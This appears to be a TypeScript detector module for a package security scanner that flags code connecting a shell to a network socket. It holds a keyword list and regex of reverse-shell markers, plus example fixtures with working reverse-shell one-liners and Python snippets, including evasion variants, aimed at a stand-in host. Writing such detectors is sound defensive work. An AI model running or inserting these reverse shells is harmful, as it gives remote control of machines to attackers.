import { isProgram } from "../behaviour/commands.ts";
import { type Deed, deedsOf, flowsBetween } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import type { SourceFile } from "../model.ts";
import { certainty } from "./_flow.ts";
import { codeWith, isLate, matchInCode, sight } from "./_sight.ts";

const WORDS = [
  "/dev/tcp/",
  "dup2",
  "bash -i",
  "sh -i",
  "nc -e",
  "ncat",
  "pty.spawn",
  "socket",
  "tcpclient",
  "child_process",
  "recv(",
  "net.connect",
  "net.socket",
] as const;
/** Shell commands that connect a shell to a socket. */
const COMMAND =
  /\/dev\/(?:tcp|udp)\/[\w.${}-]{1,100}\/[\w${}]{1,20}|\b(?:nc|ncat|netcat)(?:\.exe)?[ \t]{1,4}(?:-\w{1,6}[ \t]{1,4}){0,3}-\w{0,4}e[ \t]{1,4}[\w/.]{0,30}(?:sh|cmd)|mkfifo[ \t]{1,4}[\w/][^\n]{0,120}\b(?:nc|ncat|netcat|telnet|openssl)\b|net\.sockets\.tcpclient[^\n]{0,900}(?:iex|invoke-expression|getstream)/i;

/** One of these is in every such command; `ncat` alone is in every `concat`. */
const COMMAND_MARKS = [
  "/dev/tcp/",
  "/dev/udp/",
  "nc -",
  "nc  ",
  "nc \t",
  "nc\t",
  "nc.exe",
  "ncat -",
  "ncat  ",
  "ncat \t",
  "ncat\t",
  "ncat.exe",
  "netcat",
  "mkfifo",
  "tcpclient",
] as const;
const LITERALS = [...new Set([...WORDS, ...COMMAND_MARKS])];

export const reverseShell: Detector = {
  id: "reverse-shell",
  title: "Connects a shell to a socket",
  severity: "critical",
  ecosystems: ["pypi", "npm", "nuget"],
  points: 7,
  class: "threat",
  group: "remote-control",
  why: `A shell's input and output are tied to a network connection, or what comes from a socket is run as a command: whoever is at the
other end controls the machine.

Security tools generate such commands for their users as text; those name many of them in one file and run none.`,
  literals: LITERALS,
  *detect(tree) {
    for (const file of codeWith(tree, WORDS)) {
      const command = file.hits.hasAny(COMMAND_MARKS) ? matchInCode(file, COMMAND) : undefined;
      if (command !== undefined) {
        const late = isLate(file);
        yield sight(file, command.index, `connects a shell to a socket: ${command[0]}`, { share: late ? 0.65 : 1 });
      }
      yield* tied(file);
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: { "setup.py": "import os\nos.system('bash -i >& /dev/tcp/example.invalid/1 0>&1')\n" },
      },
      {
        ecosystem: "pypi",
        files: {
          "demo/__init__.py":
            "import socket, os, subprocess\ns = socket.socket()\ns.connect(('example.invalid', 1))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py": "import socket, subprocess\ns = socket.socket()\ns.connect(a)\nsubprocess.call(['ls'])\n",
        },
      },
      { ecosystem: "pypi", files: { "demo/a.py": "# bash -i >& /dev/tcp/example.invalid/1\n" } },
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import os, socket, sys\ns = socket.socket()\nd = s.recv(9)\nif d == b'restart':\n    os.execv(sys.executable, [sys.executable] + sys.argv)\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import os, socket, sys\ns = socket.create_connection(('example.invalid', 1))\nd = s.recv(9)\nos.execv(sys.executable, [sys.executable, '-c', d])\n",
        },
      },
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "from socket import *\nfrom subprocess import getoutput as g\nc = socket()\nc.connect(('example.invalid', 1))\nwhile 1:\n    q = c.recv(99).decode()\n    c.send(g(q).encode())\n",
        },
      },
    ],
  },
};

function* tied(file: Parameters<typeof deedsOf>[0]) {
  const start = deedsOf(file, "start").find((deed) =>
    /(?:^|[/\s"'])(?:ba|z|da)?sh\b|cmd(?:\.exe)?\b|powershell/i.test(deed.text),
  );
  const connects = deedsOf(file, "socket")[0];
  if (
    file.has("dup2") &&
    connects !== undefined &&
    (start !== undefined || file.has("pty.spawn")) &&
    /dup2\s{0,4}\(\s{0,4}\w{1,60}\.fileno/.test(file.text)
  ) {
    yield sight(file, connects.offset, "ties the input and output of a shell to a socket", { phase: connects.phase });
    return;
  }
  for (const flow of flowsBetween(file, ["socket"], ["start", "run-code"])) {
    const { sink } = flow;
    if (REPLACES.test(sink.what) && (!isProgram(sink) || startsAgain(file, sink))) continue;
    const late = isLate(sink);
    yield sight(file, sink.offset, `what a socket receives is run by ${sink.what}`, {
      phase: sink.phase,
      share: (late ? 0.7 : 1) * certainty(file, flow),
    });
  }
}

/** Puts a program in the place of this one, without a shell: only the program itself can be what was received. */
const REPLACES = /^os\.exec[lv]p?e?$/;
/** `(sys.executable, [sys.executable] + sys.argv)` and the like, and nothing more. */
const ITSELF =
  /^\s{0,10}\(?\s{0,10}sys\.(?:executable|argv\[0\])\s{0,10},(?:sys\.executable|sys\.argv|["']python3?["']|[\s[\]+*,():\d])*$/;
/** What the program was called with is changed. */
const CHANGES_ARGUMENTS =
  /\bargv\b(?:\[[^\]\n]{0,20}\])?[ \t]{0,4}(?:\+?=(?!=)|\.(?:append|extend|insert|__setitem__)\b)/;

/** Whether a program starts itself once more as it was called, as servers do to restart. */
function startsAgain(file: SourceFile, { words }: Deed): boolean {
  return ITSELF.test(words) && !CHANGES_ARGUMENTS.test(file.text);
}
